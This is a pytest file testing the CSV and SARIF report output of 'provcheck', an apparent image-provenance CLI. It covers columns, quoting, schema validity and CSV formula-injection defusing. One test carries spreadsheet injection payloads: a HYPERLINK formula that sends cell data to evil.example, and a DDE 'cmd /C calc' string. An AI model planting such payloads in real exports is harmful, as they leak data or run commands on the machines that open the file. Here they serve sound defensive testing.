"""``--format csv`` and ``--format sarif``: columns, quoting, injection guard, schema validity."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import jsonschema
import pytest
from click.testing import CliRunner

from provcheck.cli import cli
from provcheck.matching.verdict import CLEAN, ERROR, INSUFFICIENT, ScanResult
from provcheck.report import FORMATS, make_renderer
from provcheck.report.csvfmt import columns, safe_cell
from provcheck.report.sarif import artifact_location
from provcheck.report.summary import ScanSummary
from provcheck.store import SourceInfo
from tests.report_fixtures import HOSTILE, constructed_match, match_result, write_scene

SCHEMA_PATH = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"
CLAIMED = date(2024, 3, 1)


def _render(fmt: str, results: list[ScanResult]) -> str:
    out = io.StringIO()
    renderer = make_renderer(fmt, out, CLAIMED)
    summary = ScanSummary(claimed_date=CLAIMED)
    for result in results:
        summary.count(result)
        renderer.result(result)
    summary.exit_code = 2
    renderer.finish(summary)
    return out.getvalue()


def _mixed_results() -> list[ScanResult]:
    return [
        match_result(constructed_match(), name="uploads/strike 1#a.jpg"),
        ScanResult("/abs/clean.jpg", CLEAN, sha256="ef" * 32, width=10, height=10, quality=90),
        ScanResult("https://example.org/flat.png", INSUFFICIENT, sha256="01" * 32, quality=3),
        ScanResult("/abs/broken.jpg", ERROR, error="/abs/broken.jpg: file is empty (0 bytes)"),
        match_result(constructed_match(), name="-"),
    ]


def test_every_format_is_registered() -> None:
    assert {"html", "csv", "sarif"} <= set(FORMATS)
    for fmt in FORMATS:
        assert make_renderer(fmt, io.StringIO()) is not None


# -- CSV ------------------------------------------------------------------------------------------


def test_csv_has_documented_columns_and_one_row_per_input() -> None:
    rows = list(csv.DictReader(io.StringIO(_render("csv", _mixed_results()), newline="")))
    assert list(rows[0]) == columns()
    assert columns()[:2] == ["input", "status"]
    assert {"distance_pdq", "distance_phash", "confidence", "first_seen"} <= set(columns())
    assert [r["status"] for r in rows] == ["match", "clean", "insufficient", "error", "match"]
    best = rows[0]
    assert best["input"] == "uploads/strike 1#a.jpg"
    assert best["label"] == HOSTILE.label  # quoted, not mangled: it starts with a letter
    assert best["frame_time"] == "83.4"
    assert best["confidence"] == "0.8065"
    assert (best["distance_pdq"], best["distance_phash"]) == ("12", "3")
    assert best["days_before_claim"] == str((CLAIMED - date(2015, 6, 1)).days)
    assert best["match_count"] == "1"
    assert rows[1]["label"] == "" and rows[1]["match_count"] == "0"
    assert rows[3]["error"] == "/abs/broken.jpg: file is empty (0 bytes)"


def test_csv_quotes_commas_quotes_and_newlines() -> None:
    info = SourceInfo('Game, "the sequel"\nline two', "game", first_seen="2030-01-01")
    text = _render("csv", [match_result(constructed_match(info), name='a,"b".jpg')])
    assert text.endswith("\r\n")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["input"] == 'a,"b".jpg'
    assert row["label"] == 'Game, "the sequel"\nline two'
    assert row["days_before_claim"] == str((CLAIMED - date(2030, 1, 1)).days)  # negative, as is
    assert row["days_before_claim"].startswith("-")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_defuses_formula_cells(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    info = SourceInfo(payload, "game", url=f"{start}cmd|' /C calc'!A0")
    text = _render("csv", [match_result(constructed_match(info))])
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["label"] == "'" + payload
    assert row["url"].startswith("'" + start)


def test_safe_cell_leaves_numbers_and_plain_text_alone() -> None:
    assert safe_cell(-3) == "-3"
    assert safe_cell(0.5) == "0.5"
    assert safe_cell(None) == ""
    assert safe_cell("plain") == "plain"
    assert safe_cell("-3") == "'-3"  # text that looks like a formula is still text


# -- SARIF ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.Draft4Validator:
    schema = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    assert schema["id"].endswith("/sarif-schema-2.1.0.json")
    jsonschema.Draft4Validator.check_schema(schema)
    return jsonschema.Draft4Validator(
        schema, format_checker=jsonschema.Draft4Validator.FORMAT_CHECKER
    )


def test_sarif_validates_against_the_published_schema(sarif_validator) -> None:
    log = json.loads(_render("sarif", _mixed_results()))
    errors = sorted(sarif_validator.iter_errors(log), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors)
    assert log["version"] == "2.1.0"


def test_sarif_validator_rejects_a_broken_log(sarif_validator) -> None:
    log = json.loads(_render("sarif", _mixed_results()))
    log["runs"][0]["results"][0]["level"] = "fatal"
    del log["runs"][0]["tool"]["driver"]["name"]
    assert len(list(sarif_validator.iter_errors(log))) >= 2


def test_sarif_maps_outcomes_to_rules_levels_and_locations() -> None:
    run = json.loads(_render("sarif", _mixed_results()))["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    results = run["results"]
    assert [r["ruleId"] for r in results] == [
        "provcheck/match",
        "provcheck/insufficient",
        "provcheck/error",
        "provcheck/match",
    ]  # the clean input has no result
    assert [r["level"] for r in results] == ["error", "note", "warning", "error"]
    for r in results:
        assert rules[r["ruleIndex"]]["id"] == r["ruleId"]
    first = results[0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert first == {"uri": "uploads/strike%201%23a.jpg", "uriBaseId": "%SRCROOT%"}
    assert results[1]["locations"][0]["physicalLocation"]["artifactLocation"] == {
        "uri": "https://example.org/flat.png"
    }
    assert results[2]["locations"][0]["physicalLocation"]["artifactLocation"] == {
        "uri": "file:///abs/broken.jpg"
    }
    assert "locations" not in results[3]  # standard input has no place in a repository
    best = results[0]["properties"]["best_match"]
    assert best["label"] == HOSTILE.label and best["confidence"] == 0.8065
    assert results[0]["partialFingerprints"] == {"imageSha256/v1": "cd" * 32}
    assert HOSTILE.label in results[0]["message"]["text"]
    assert run["invocations"][0]["exitCode"] == 2


def test_artifact_location_of_stdin_is_none() -> None:
    assert artifact_location("-") is None


def test_cli_writes_csv_and_sarif(tmp_path, monkeypatch, sarif_validator) -> None:
    ref = write_scene(tmp_path / "ref.jpg", 11)
    write_scene(tmp_path / "other.jpg", 12)
    db = tmp_path / "r.sqlite"
    runner = CliRunner()
    added = runner.invoke(
        cli, ["db", "add", str(ref), "--db", str(db), "--label", "=SUM(A1)", "--category", "game"]
    )
    assert added.exit_code == 0, added.output
    monkeypatch.chdir(tmp_path)
    base = ["scan", "ref.jpg", "other.jpg", "--db", str(db), "-j", "1", "--format"]
    got = runner.invoke(cli, [*base, "csv", "-o", "out.csv"])
    assert got.exit_code == 1, got.output
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["input"], r["status"], r["label"]) for r in rows] == [
        ("ref.jpg", "match", "'=SUM(A1)"),
        ("other.jpg", "clean", ""),
    ]
    got = runner.invoke(cli, [*base, "sarif", "-o", "out.sarif"])
    assert got.exit_code == 1, got.output
    log = json.loads((tmp_path / "out.sarif").read_text(encoding="utf-8"))
    assert not list(sarif_validator.iter_errors(log))
    (result,) = log["runs"][0]["results"]
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "ref.jpg"
    assert log["runs"][0]["originalUriBaseIds"]["%SRCROOT%"]["uri"] == tmp_path.as_uri() + "/"


@pytest.mark.slow
def test_installed_entry_point_writes_every_new_format(tmp_path) -> None:
    """A real process with a real worker pool (-j 2, five inputs), as a newsroom would run it."""
    import subprocess
    import sys

    refs = [write_scene(tmp_path / f"ref{i}.jpg", 40 + i) for i in range(2)]
    others = [write_scene(tmp_path / f"new{i}.jpg", 50 + i) for i in range(3)]
    db = tmp_path / "r.sqlite"
    run = [sys.executable, "-m", "provcheck"]
    added = subprocess.run(
        [*run, "db", "add", *map(str, refs), "--db", str(db), "--label", "L", "--category", "game"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert added.returncode == 0, added.stderr
    inputs = [str(p) for p in [*refs, *others]]
    for fmt in ("html", "csv", "sarif"):
        out = tmp_path / f"report.{fmt}"
        done = subprocess.run(
            [*run, "scan", *inputs, "--db", str(db), "-j", "2", "--format", fmt, "-o", str(out)],
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 1, done.stderr
        text = out.read_text(encoding="utf-8")
        if fmt == "html":
            assert text.count('src="data:image/') == 4  # two matches, query and reference each
        elif fmt == "csv":
            assert [r["status"] for r in csv.DictReader(io.StringIO(text, newline=""))] == [
                "match",
                "match",
                "clean",
                "clean",
                "clean",
            ]
        else:
            assert len(json.loads(text)["runs"][0]["results"]) == 2
